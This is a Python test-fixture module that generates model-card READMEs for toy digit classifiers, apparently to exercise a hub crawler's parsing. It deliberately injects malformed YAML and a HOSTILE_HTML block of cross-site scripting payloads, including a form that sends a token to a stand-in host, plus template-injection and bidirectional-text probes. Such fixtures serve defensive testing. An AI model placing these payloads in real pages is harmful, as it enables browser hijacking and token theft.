"""Cards: front matter and Markdown, with the accuracy that was measured."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from crawler.localhub.zoo import wording
from crawler.localhub.zoo.breed import Grown, Version
from crawler.localhub.zoo.pack import yaml_text
from crawler.localhub.zoo.species import Animal

MARKED_UP_TITLE = (
    '<b onmouseover="alert(1)">numeral</b> **tiny** `decorated` '
    "[press](javascript:alert(2)) <!-- & \"quoted\" 'twice' --> "
    "${7*7} {{7*7}} 🎀 \u202edesrever\u202c"
)
HOSTILE_HTML = """\
<script>document.title = "taken over by a card"</script>
<img src="x" onerror="document.body.innerHTML = 'taken over by a card'">
<svg onload="alert(document.domain)"></svg>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<a href="javascript:alert(1)">[best model](javascript:alert(1))</a>
<style>body { display: none }</style>
<form action="https://collect.invalid/"><input name="token"></form>
</div></div></table><!-- an end without a beginning, and a beginning without an end
"""


def card(grown: Grown, version: Version, *, license_name: str, brief: bool = False) -> str:
    """The README of one version; ``brief`` leaves out what a later edit adds.

    The accuracy on it is the version's own, on the held-out images.
    """
    animal = grown.animal
    text = "\n\n".join([*wording.body(grown, version), *([] if brief else wording.closing(grown))])
    front = yaml_text(_front(grown, version, license_name))
    return QUIRKS.get(animal.card, _as_is)(front, f"{text}\n", animal)


def _front(grown: Grown, version: Version, license_name: str) -> dict[str, Any]:
    animal = grown.animal
    front: dict[str, Any] = {"license": license_name} if license_name else {}
    if animal.voice in {"card", "relation"} and animal.declared:
        several = len(animal.declared) > 1
        front["base_model"] = list(animal.declared) if several else animal.declared[0]
    if animal.voice == "relation":
        front["base_model_relation"] = _relation(animal)
    if animal.quant != "gguf":
        front["library_name"] = "peft" if animal.kind == "adapter" else "transformers"
    front["pipeline_tag"] = _pipeline(animal)
    front["tags"] = _tags(animal)
    front["datasets"] = ["digits"]
    if animal.kind in {"root", "finetune", "vocabulary"}:
        front["model-index"] = [_model_index(grown, version)]
    return front


def _relation(animal: Animal) -> str:
    return animal.kind if animal.kind in {"adapter", "quantized", "merge"} else "finetune"


def _pipeline(animal: Animal) -> str:
    return "image-classification" if animal.owner in {"digitlab", "noraqv"} else "text-generation"


def _tags(animal: Animal) -> list[str]:
    own = {
        "adapter": ["lora"],
        "merge": ["mergekit", "merge"],
        "quantized": ["gguf"] if animal.quant == "gguf" else [f"{animal.quant}"],
        "checkpoint": ["generated_from_trainer"],
        "root": ["from-scratch"],
    }
    trained = ["generated_from_trainer"] if animal.voice == "words" else []
    return list(dict.fromkeys([*own.get(animal.kind, []), *trained, "digits", "tiny"]))


def _model_index(grown: Grown, version: Version) -> dict[str, Any]:
    metric = {"type": "accuracy", "name": "Accuracy", "value": version.results[grown.task]}
    result = {
        "task": {"type": "image-classification", "name": "Image Classification"},
        "dataset": {"name": "digits", "type": "digits", "split": "held out"},
        "metrics": [metric],
    }
    return {"name": grown.animal.name, "results": [result]}


def _as_is(front: str, text: str, _: Animal) -> str:
    return f"---\n{front}---\n\n{text}"


def _broken(front: str, text: str, _: Animal) -> str:
    return f"---\n{front}description: blurred: digits: [unclosed\n\ttabbed: yes\n---\n\n{text}"


def _doubled(front: str, text: str, _: Animal) -> str:
    return f"---\nlicense: openrail\ntags:\n- first\n{front}---\n\n{text}"


def _norwegian(front: str, text: str, _: Animal) -> str:
    # Unquoted: a reader by the rules of YAML 1.1 makes it False.
    return f"---\nlanguage: no\n{front}---\n\nSifrene er på norsk.\n\n{text}"


def _hostile(front: str, text: str, _: Animal) -> str:
    return f"---\n{front}---\n\n{text}\n{HOSTILE_HTML}"


def _decorated(front: str, text: str, animal: Animal) -> str:
    return f"---\n{front}---\n\n{text.replace(f'# {animal.name}', f'# {MARKED_UP_TITLE}', 1)}"


QUIRKS: dict[str, Callable[[str, str, Animal], str]] = {
    "broken-yaml": _broken,
    "duplicate-keys": _doubled,
    "norwegian": _norwegian,
    "hostile": _hostile,
    "marked-up-title": _decorated,
}
